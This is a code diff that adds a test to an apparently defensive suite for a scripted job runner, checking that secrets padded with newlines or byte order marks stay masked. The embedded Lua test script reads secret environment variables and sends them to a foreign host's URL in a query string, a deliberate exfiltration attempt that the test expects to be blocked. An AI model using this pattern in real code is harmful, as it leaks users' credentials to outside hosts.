@@ -64,6 +64,25 @@ class Secrets(JobCase):
         self.assertEqual(done.stdout.count("auth: "), 4, done.stdout)
         self.assertEqual(self.foreign.received, [])
 
+    def test_the_end_of_a_line_is_no_part_of_them(self):
+        """As of `|` in YAML, or of `echo secret | base64` in a Secret of Kubernetes; a byte order mark neither."""
+        script = f"""
+          for _, name in ipairs {{ "SEC", "REF" }} do
+            local value = os.getenv(name):gsub("^\\u{{feff}}", ""):gsub("%s+$", "")
+            require "jeton.log".info("L " .. value)
+            print(require "jeton.http".get("{self.foreign.url}/?x=" .. value))
+          end
+        """
+        self.job(script, connectors=CONNECTOR, environment={"SEC": SECRET + "\n", "REF": "\ufeff" + REFRESH})
+        inside = self.run_job()
+        self.job(script, connectors=CONNECTOR)
+        outside = self.run_job(env={"SEC": "\ufeff" + SECRET, "REF": REFRESH + "\r\n"})
+        for done in (inside, outside):
+            self.assertEqual(done.stderr.count("L ********"), 2, done.stderr)
+            self.assertEqual(done.stdout.count("auth: "), 2, done.stdout)
+            self.assert_hidden(done.stderr)
+        self.assertEqual(self.foreign.received, [])
+
     def test_a_dry_run_hides_them_too(self):
         self.secret_job("require 'jeton.log'.info(os.getenv 'REF')")
         done = self.run_job("--dry-run")
